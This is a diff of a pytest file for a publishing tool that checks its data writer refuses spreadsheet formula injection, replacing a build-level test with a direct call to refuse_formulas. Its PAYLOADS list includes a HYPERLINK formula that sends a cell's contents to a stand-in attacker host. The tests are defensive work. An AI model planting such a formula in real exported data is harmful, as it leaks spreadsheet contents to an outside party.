@@ -13,7 +13,9 @@ import pytest
 from briefs.cli import main
 from briefs.project import Project
 
-from conftest import make_project, refusal, run_snakemake
+from briefs.errors import ContentError
+from briefs.publish.data_package import refuse_formulas
+from conftest import edition, make_project, refusal, run_snakemake
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -140,26 +142,17 @@ def test_a_planted_formula_stops_the_build_and_the_last_good_data_remain(
     assert not [where for where, data in after.items() if formula in data]
 
 
-@pytest.mark.parametrize("site_url, sign", [("=1+1/", "'='"), ("-2+3/", "'-'"),
-                                            ("@SUM(1+1)/", "'@'"), ("+1+1/", "'+'")])
-def test_a_formula_that_came_another_way_stops_the_build_naming_brief_and_record(
-        good, tmp_path, site_url, sign):
-    """A brief cited as a source is given by its address on the site (site_url, a build
-    setting, not a record): the last guard, in the writer of the data, stops it."""
-    project = copy_of(good, tmp_path / "project")
-    before = published(project.root / "build")
-    record = project.content / "cases" / "keeper-three.yaml"  # the Kazakh column lists them
-    record.write_text(record.read_text().replace(
-        "sources:\n", "sources:\n  - {id: ours, brief: test-statement}\n"))
-    result = run_snakemake(project, "--config", f"site_url={site_url}")
-    assert result.returncode != 0
-    assert ("content/cases/keeper-three.yaml: the data for journalists of test-column (kk) "
-            "would hold, in its column 'sources' for this record, a value beginning with "
-            f"{sign}, which a spreadsheet runs as a formula") in result.stderr, result.stderr
-    assert "What to do: correct the value where it comes from" in result.stderr
-    after = published(project.root / "build")
-    column = {where: data for where, data in data_and_kits(after).items()
-              if where.startswith("test-column")}
-    assert column and column == {where: data for where, data in data_and_kits(before).items()
-                                 if where.startswith("test-column")}
-    assert not [where for where, data in column.items() if site_url.encode() in data]
+@pytest.mark.parametrize("payload, sign", [("=1+1", "'='"), ("-2+3", "'-'"),
+                                           ("@SUM(1+1)", "'@'"), ("\t+1+1", "a tab")])
+def test_a_formula_that_came_another_way_is_refused_by_the_writer(project, payload, sign):
+    """Every value an editor types is checked where it is typed, and the build's site_url
+    where it is given (tests/test_settings.py); the writer's own check stands behind them
+    for a column that may come another way."""
+    column = edition(project, "test-column", "kk")
+    rows = [{"id": "keeper-three", "name": "Keeper Three", "sources": payload}]
+    with pytest.raises(ContentError) as refused:
+        refuse_formulas(column, rows)
+    assert str(refused.value).startswith(
+        f"{project.content / 'cases' / 'keeper-three.yaml'}: the data for journalists of "
+        "test-column (kk) would hold, in its column 'sources' for this record, a value "
+        f"beginning with {sign}, which a spreadsheet runs as a formula"), str(refused.value)
